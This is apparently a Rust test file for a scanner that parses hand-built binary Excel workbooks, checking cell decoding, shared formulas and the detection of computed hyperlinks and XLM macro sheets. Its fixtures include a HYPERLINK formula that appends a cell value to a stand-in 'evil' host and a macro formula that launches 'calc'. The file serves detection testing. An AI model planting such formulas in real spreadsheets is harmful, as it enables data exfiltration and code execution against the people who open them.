//! Sheets in records, made by hand.

use scan::content::{Content, LinkKind};

use crate::formats::office::testing::{open, show, zip_of};

const BEGIN_BOOK: u32 = 131;
const BEGIN_SHEET: u32 = 129;

fn record(kind: u32, body: &[u8]) -> Vec<u8> {
    let small = |number: usize| u8::try_from(number & 0x7f).unwrap();
    let kind = usize::try_from(kind).unwrap();
    let mut bytes = if kind < 0x80 { vec![small(kind)] } else { vec![small(kind) | 0x80, small(kind >> 7)] };
    bytes.extend([small(body.len()) | 0x80, small(body.len() >> 7)]);
    bytes.extend(body);
    bytes
}

fn text(text: &str) -> Vec<u8> {
    let units: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    [&u32::try_from(text.len()).unwrap().to_le_bytes()[..], &units].concat()
}

/// A cell of this column, of the row before it.
fn cell(kind: u32, column: u8, value: &[u8]) -> Vec<u8> {
    record(kind, &[&[column, 0, 0, 0, 0, 0, 0, 0], value].concat())
}

fn row(number: u8) -> Vec<u8> {
    record(0, &[number, 0, 0, 0])
}

fn sized(tokens: &[u8]) -> Vec<u8> {
    [&u32::try_from(tokens.len()).unwrap().to_le_bytes()[..], tokens, &[0; 4]].concat()
}

/// A formula whose result is a text, and what stands behind its tokens.
fn formula(column: u8, tokens: &[u8], behind: &[u8]) -> Vec<u8> {
    let mut tokens = sized(tokens);
    if !behind.is_empty() {
        tokens.truncate(tokens.len().saturating_sub(4));
        tokens.extend(behind);
    }
    cell(8, column, &[text("go"), vec![0, 0], tokens].concat())
}

fn literal(text: &str) -> Vec<u8> {
    let units: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    [&[0x17][..], &u16::try_from(text.len()).unwrap().to_le_bytes(), &units].concat()
}

/// `HYPERLINK("http://evil"&A1&".example/")`.
fn link() -> Vec<u8> {
    let first = b"\x44\0\0\0\0\0\xc0";
    [literal("http://evil").as_slice(), first, b"\x08", &literal(".example/"), b"\x08\x42\x01\x67\x01"].concat()
}

fn sheet(records: &[Vec<u8>]) -> Vec<u8> {
    [record(BEGIN_SHEET, b""), records.concat()].concat()
}

/// A book of one sheet, in a part of this name, to which a relation of this type leads.
fn book((part, kind): (&str, &str), sheet: &[u8]) -> Content {
    let relations = format!(
        "<?xml version='1.0'?><Relationships><Relationship Id='r1' Type='http://s/{kind}' Target='{part}'/></Relationships>"
    );
    let types = "<?xml version='1.0'?><Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>";
    let bundle = record(156, &[&[0; 8][..], &text("r1"), &text("S")].concat());
    open(&zip_of(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("xl/workbook.bin", &[record(BEGIN_BOOK, b""), bundle].concat()),
        ("xl/_rels/workbook.bin.rels", relations.as_bytes()),
        (&format!("xl/{part}"), sheet),
    ]))
}

fn told(sheet: &[u8]) -> String {
    let content = book(("worksheets/sheet1.bin", "worksheet"), sheet);
    let item = &content.items[0];
    let links = item.links.iter().filter(|link| link.kind == LinkKind::Anchor);
    let links: Vec<&str> = links.map(|link| link.target.as_str()).collect();
    format!("{} {}", item.marks.join(" "), links.join(" ")).trim().to_owned()
}

#[test]
fn cells_are_what_the_file_says_they_are() {
    let one = 1.0_f64.to_le_bytes();
    for (value, expected) in [
        // How a truth is written depends on the language.
        (cell(4, 0, &[1]), "link_computed http://evil"),
        (cell(3, 0, &[0x2a]), "link_computed http://evil"),
        (cell(5, 0, &one), "http://evil1.example/"),
        (cell(2, 0, &6_u32.to_le_bytes()), "http://evil1.example/"),
        (cell(6, 0, &text("01")), "http://evil01.example/"),
        (cell(62, 0, &[&[0][..], &text("two")].concat()), "http://eviltwo.example/"),
        (cell(1, 0, &[]), "http://evil.example/"),
    ] {
        let found = told(&sheet(&[row(0), value, formula(1, &link(), b"")]));
        assert!(found.starts_with(expected), "{expected}: {found}");
    }
}

/// Cells without a column follow each other.
#[test]
fn short_cells_are_read() {
    let short = |kind: u32, value: &[u8]| record(kind, &[&[0; 4][..], value].concat());
    let cells = [short(17, &text("two")), short(16, &1.5_f64.to_le_bytes()), short(13, &6_u32.to_le_bytes())];
    let content = book(
        ("worksheets/sheet1.bin", "worksheet"),
        &sheet(&[row(0), cells.concat(), row(1), short(15, &[1]), short(17, &text("B2")), formula(2, &link(), b"")]),
    );
    let item = &content.items[0];
    assert!(item.text.contains("two\t1.5\t1\t") && item.text.contains("B2"), "{}", item.text);
    assert!(item.links.iter().any(|link| link.target == "http://eviltwo.example/"), "{:?}", item.links);
}

#[test]
fn formulas_that_cells_share() {
    // `HYPERLINK` of the cell to the left.
    let near = b"\x4c\0\0\0\0\xff\xff\x42\x01\x67\x01";
    let first = [0_u32, 1, 1, 1].iter().flat_map(|corner| corner.to_le_bytes()).collect::<Vec<u8>>();
    let same = |column: u8| formula(column, b"\x01\0\0\0\0", b"\x04\0\0\0\x01\0\0\0");
    let cells = |number: u8, target: &str| [row(number), cell(6, 0, &text(target)), same(1)].concat();
    let found = told(&sheet(&[
        cells(0, "https://one.example/"),
        record(427, &[first, sized(near)].concat()),
        cells(1, "https://two.example/"),
    ]));
    assert_eq!(found, "https://one.example/ https://two.example/");
}

#[test]
fn sheets_of_macros_whatever_they_are_called() {
    let tokens = [literal("calc").as_slice(), b"\x42\x01\x6e\x00"].concat();
    let plain = sheet(&[row(0), formula(0, &tokens, b"")]);
    // The sheet, with something in front that is skipped.
    let behind = [record(37, b""), plain.clone()].concat();
    let array = sheet(&[row(0), record(426, &[&[0; 17][..], &sized(&tokens)].concat())]);
    for (part, kind, sheet) in [
        ("macrosheets/sheet1.bin", "xlMacrosheet", &plain),
        ("worksheets/sheet1.bin", "xlMacrosheet", &plain),
        ("worksheets/sheet1.bin", "xlIntlMacrosheet", &plain),
        ("a.bin", "XLMACROSHEET", &behind),
        ("a.bin", "xlMacrosheet", &array),
    ] {
        let content = book((part, kind), sheet);
        let marks = &content.items[0].marks;
        assert!(
            ["xlm", "macro_code"].iter().all(|mark| marks.iter().any(|own| own == mark)),
            "{part} {kind}: {marks:?}"
        );
        assert!(content.items.iter().any(|item| item.kind == "xlm"), "{part} {kind}: {}", show(&content));
    }
    let content = book(("worksheets/sheet1.bin", "worksheet"), &plain);
    assert!(
        content.items[0].marks.is_empty() && content.items.iter().all(|item| item.kind != "xlm"),
        "{}",
        show(&content)
    );
}
